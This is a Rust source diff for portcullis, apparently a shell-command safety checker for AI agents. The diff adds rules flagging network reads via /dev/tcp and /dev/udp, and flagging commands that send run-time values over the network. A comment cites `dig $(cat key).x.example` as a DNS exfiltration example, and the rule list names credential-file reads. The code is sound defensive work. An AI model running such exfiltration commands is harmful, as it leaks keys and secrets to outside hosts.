@@ -77,6 +77,10 @@ pub const RULE_FAMILIES: &[(&str, &str)] = &[
         "SIGNED: reads .env, private keys or credential files, or prints the whole environment, into the model's context",
     ),
     (
+        "read.network",
+        "SIGNED: stdin read from /dev/tcp or /dev/udp (a network connection)",
+    ),
+    (
         "write.network",
         "SIGNED: a redirection to /dev/tcp or /dev/udp",
     ),
@@ -477,6 +481,15 @@ impl<'a> Run<'a> {
         }
         if let Stdin::File(file) = &command.stdin {
             self.secret_reads("<", std::slice::from_ref(file), &command.text, depth);
+            if file.value.starts_with("/dev/tcp/") || file.value.starts_with("/dev/udp/") {
+                self.find(
+                    Effect::Network.verdict(),
+                    "read.network",
+                    format!("`< {}` reads from a network connection", limits::clip(&file.value, 80)),
+                    Effect::Network.remediation(),
+                    &command.text,
+                );
+            }
         }
         self.remember_written(site, cwd.as_deref());
         if command.words.is_empty() {
@@ -987,7 +1000,8 @@ impl<'a> Run<'a> {
     }
 
     /// SIGNED when a command the lexicon finds free has options outside
-    /// its verb's closed option set, or words only known at run time in
+    /// its verb's closed option set, sends a word only known at run time
+    /// over the network (`dig $(cat key).x.example`), or has such a word in
     /// option position for a verb whose options can raise its class: an
     /// option portcullis does not know may run a program or write a file.
     fn unknown_options(&mut self, classified: &lexicon::Classified, words: &[Word], part: &str, depth: usize) {
@@ -1003,6 +1017,21 @@ impl<'a> Run<'a> {
                 &format!("{}.unknown-option", classified.rule),
                 format!("`{command}` is free only with the options portcullis knows, and `{option}` is not one of them; an unknown option may run a program or write a file"),
                 "Use only the command's common options (`portcullis explain` shows how each word was read), or let the person approve this one.",
+                part,
+            );
+        } else if let Some(word) = classified
+            .spec
+            .sends_arguments
+            .then(|| words.iter().skip(1).find(|w| w.dynamic))
+            .flatten()
+        {
+            let source = limits::clip(&word.source, 60);
+            self.note(depth, || format!("network: {source} is sent out"));
+            self.find(
+                Effect::Network.verdict(),
+                &format!("{}.sends-dynamic", classified.rule),
+                format!("`{command}` sends its arguments over the network, and `{source}` is only known when the command runs (it could carry a file's contents out)"),
+                "Write the value out literally, so what is sent can be checked.",
                 part,
             );
         } else if let Some(word) = classified.maybe_options.first().and_then(|&i| words.get(i)) {
